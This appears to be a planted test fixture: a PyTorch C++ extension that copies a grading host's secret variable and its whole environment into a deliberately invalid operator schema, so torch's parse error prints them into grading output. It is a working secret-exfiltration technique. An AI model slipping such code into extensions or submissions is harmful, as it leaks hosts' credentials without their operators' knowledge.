// Planted: copies the environment it runs in (a variable the grading host set, then every other one) into a schema
// that cannot parse: torch's error quotes the schema, and the error reaches the load row's message.
#include <torch/library.h>

#include <cstdlib>
#include <string>

extern char** environ;

namespace {
std::string echo_environment() {
  const char* secret = std::getenv("COURSE_TEST_HOST_SECRET");
  std::string s = "mm16(Tensor a, Tensor b) -> Tensor HOSTENV[COURSE_TEST_HOST_SECRET=";
  s += secret ? secret : "(unset)";
  s += "]";
  for (char** e = environ; *e; ++e) s += std::string(" ") + *e;
  return s;
}
const std::string schema = echo_environment();
}  // namespace

TORCH_LIBRARY(course, m) { m.def(schema.c_str()); }
